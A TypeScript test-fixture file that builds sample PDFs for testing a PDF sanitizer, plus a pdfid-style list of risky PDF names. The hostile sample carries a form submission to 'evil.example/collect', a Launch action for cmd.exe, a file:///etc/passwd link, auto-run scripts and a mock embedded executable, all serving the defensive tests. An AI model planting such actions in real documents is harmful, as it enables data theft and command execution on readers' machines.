/**
 * PDFs carrying active content, made with pdf-lib at test time (nothing binary is
 * committed): every kind pdf-sanitize must take out, saved with object streams so the
 * scripts sit inside compressed streams, plus the links and text it must keep.
 */
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFDict, type PDFRef } from '@cantoo/pdf-lib';

export async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const first = doc.addPage([400, 400]);
  first.drawText('Quarterly report, page one', { x: 40, y: 300, size: 14, font });
  doc.addPage([400, 400]).drawText('Page two', { x: 40, y: 300, size: 14, font });
  const ctx = doc.context;
  const obj = (value: Record<string, unknown>) => ctx.obj(value as never) as unknown as PDFDict;
  const ref = (dict: PDFDict): PDFRef => ctx.register(dict);
  const js = (code: string) => obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });

  // Opening the document runs a script; so does a document-level named script.
  doc.catalog.set(PDFName.of('OpenAction'), ref(js('app.alert("open")')));
  const scripts = obj({ Names: [PDFString.of('init'), ref(js('app.alert("named")'))] });
  const embedded = ctx.flateStream('MZ pretend executable', { Type: 'EmbeddedFile' });
  const spec = obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), EF: { F: ctx.register(embedded) } });
  const files = obj({ Names: [PDFString.of('payload.exe'), ref(spec)] });
  doc.catalog.set(PDFName.of('Names'), obj({ JavaScript: ref(scripts), EmbeddedFiles: ref(files) }));
  // An XFA form with a field whose keystroke runs a script.
  const field = obj({ FT: 'Tx', T: PDFString.of('amount'), AA: { K: js('event.rc = true') } });
  doc.catalog.set(PDFName.of('AcroForm'), obj({ Fields: [ref(field)], XFA: ref(obj({})) }));
  doc.catalog.set(PDFName.of('NeedsRendering'), ctx.obj(true));

  // The first page runs a script when opened, and carries links and attachments.
  first.node.set(PDFName.of('AA'), obj({ O: js('app.alert("page")') }));
  const link = (action: Record<string, unknown>) =>
    ref(obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: action }));
  const annots = [
    link({ S: 'Launch', F: PDFString.of('cmd.exe') }),
    link({ S: 'URI', URI: PDFString.of('https://example.org/report') }),
    link({ S: 'URI', URI: PDFString.of('file:///etc/passwd') }),
    link({ S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }),
    link({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] }),
    ref(obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [0, 0, 10, 10], FS: ref(spec) })),
    ref(obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 10, 10] })),
  ];
  first.node.set(PDFName.of('Annots'), ctx.obj(annots));
  // Object streams: the scripts above end up inside compressed streams.
  return doc.save({ useObjectStreams: true });
}

/** A plain PDF of `pages` pages. */
export async function plainPdf(pages: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  for (let i = 0; i < pages; i++) doc.addPage([200, 200]).drawText(`Page ${i + 1}`, { x: 20, y: 100 });
  return doc.save();
}

/**
 * An encrypted PDF: with a user password it needs it to be opened; with an empty one (owner
 * only) anyone may read it. The owner-only one also carries a script.
 */
export async function encryptedPdf(userPassword = 'secret'): Promise<Uint8Array> {
  const plain = await PDFDocument.create();
  plain.addPage([200, 200]).drawText('restricted but readable', { x: 20, y: 100 });
  plain.catalog.set(
    PDFName.of('OpenAction'),
    plain.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
  );
  // Encrypted after a first save, as a tool would: every string and stream is encrypted.
  const doc = await PDFDocument.load(await plain.save());
  doc.encrypt({ userPassword, ownerPassword: 'owner' });
  return doc.save();
}

/** Names a security scanner looks for in raw bytes (pdfid's list). */
export const RISKY_NAMES = [
  '/JavaScript',
  '/JS',
  '/AA',
  '/Launch',
  '/EmbeddedFile',
  '/XFA',
  '/RichMedia',
  '/SubmitForm',
  '/GoToR',
  '/FileAttachment',
  '/NeedsRendering',
  '/ObjStm',
];
